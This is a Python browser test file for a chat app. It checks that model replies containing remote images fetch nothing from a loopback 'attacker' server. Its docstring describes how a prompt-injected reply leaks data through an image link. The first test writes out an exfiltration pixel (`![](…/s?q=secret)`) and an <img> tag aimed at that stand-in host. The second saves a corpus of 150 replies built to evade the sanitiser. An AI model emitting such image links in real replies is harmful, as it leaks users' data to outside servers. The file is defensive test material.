"""A model's reply with a remote image makes no request, in a real browser, while it streams and
once it is saved: an "attacker" HTTP server on loopback records every request, and none arrives.

The demo model quotes the system prompt in its reply, which is how a reply carries an image
(inline and as raw HTML) here, as a prompt-injected one would. Then a conversation of replies
built to hide images from the sanitiser (tests/reply_corpus.py: containers, fences, tables, link
destinations, bare links...) is saved in the app's database and opened: the real renderer draws
no image from any of them. (Before the fix, most of these loaded.)"""

from __future__ import annotations

import uuid
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, Request

from tests.browser_harness import (
    CHROMIUM,
    MEMBER,
    NO_CHROMIUM,
    AppServer,
    Attacker,
    app_fixture,
    assistant_messages,
    browser_fixture,
    page_fixture,
    running_attacker,
    send_chat,
    sign_in,
    wait_chat_reply_saved,
    wait_settled,
)
from tests.chat_browser_harness import chat_records, conversation_button, open_chat_settings
from tests.reply_corpus import corpus
from workbench.chat.conversations import Conversations

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=NO_CHROMIUM)

app = app_fixture(stream_delay_s=0.02)
browser = browser_fixture()
page = page_fixture()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    with running_attacker() as server:
        yield server


@pytest.fixture(scope="module")
def hostile(app: AppServer, attacker: Attacker) -> tuple[str, list[str]]:
    """A conversation of replies built to hide images, saved in the app's database before any
    test's session reads the person's conversation list (the app caches it for 30 s)."""
    replies = corpus(seed=12, size=150, image_base=attacker.base)
    title = f"Hostile replies {uuid.uuid4().hex[:6]}"
    with chat_records(app) as records:
        store = Conversations(records.ledger.engine)
        workspace_id = records.ledger.workspace("demo").id
        conversation = store.create(records.member_id, workspace_id, title)
        for reply in replies:
            store.add_message(records.member_id, conversation.id, "user", "Go on.")
            store.add_message(
                records.member_id, conversation.id, "assistant", reply, status="ok", credits=1
            )
    return title, replies


def watch_requests_to(page: Page, base: str) -> list[str]:
    """URLs the page asks ``base`` for, as the browser sends them."""
    seen: list[str] = []

    def check(request: Request) -> None:
        if request.url.startswith(base):
            seen.append(request.url)

    page.on("request", check)
    return seen


def images_in_replies(page: Page) -> int:
    return page.get_by_test_id("stChatMessageContent").locator("img").count()


def test_a_streamed_reply_with_a_remote_image_requests_nothing(
    app: AppServer, page: Page, attacker: Attacker, hostile: tuple[str, list[str]]
) -> None:
    requested = watch_requests_to(page, attacker.base)
    pixel = f"![]({attacker.base}/s?q=secret)"
    html = f"<img src={attacker.base}/h>"
    sign_in(page, app, MEMBER)
    open_chat_settings(page)
    page.get_by_role("textbox", name="System prompt (optional)").fill(pixel + html)
    page.get_by_role("textbox", name="System prompt (optional)").press("Tab")
    wait_settled(page)
    page.keyboard.press("Escape")  # close the settings control
    wait_settled(page)
    replies_before = assistant_messages(page).count()
    text = f"Show me the chart {uuid.uuid4().hex[:6]}"
    send_chat(page, text)
    reply = wait_chat_reply_saved(page, replies_before)
    with chat_records(app) as records:
        [conversation] = [c for c in records.conversations() if c.title == text]
        saved = records.messages(conversation.id)[-1].content
    assert pixel in saved and html in saved, "the demo model did not quote the image"
    assert pixel in reply.inner_text()  # shown as the text it is
    assert images_in_replies(page) == 0

    # Saved: opened again from the list.
    conversation_button(page, text).click()
    wait_settled(page)
    assert pixel in assistant_messages(page).last.inner_text()
    assert images_in_replies(page) == 0
    assert requested == []
    assert attacker.paths == []


def test_replies_built_to_hide_images_request_nothing(
    app: AppServer, page: Page, attacker: Attacker, hostile: tuple[str, list[str]]
) -> None:
    title, replies = hostile
    assert all("![" in reply or "<img" in reply for reply in replies)
    requested = watch_requests_to(page, attacker.base)
    sign_in(page, app, MEMBER)
    conversation_button(page, title).click()
    assistant_messages(page).nth(len(replies) - 1).wait_for()
    wait_settled(page)
    assert assistant_messages(page).count() == len(replies)
    assert images_in_replies(page) == 0
    assert requested == []
    assert attacker.paths == []
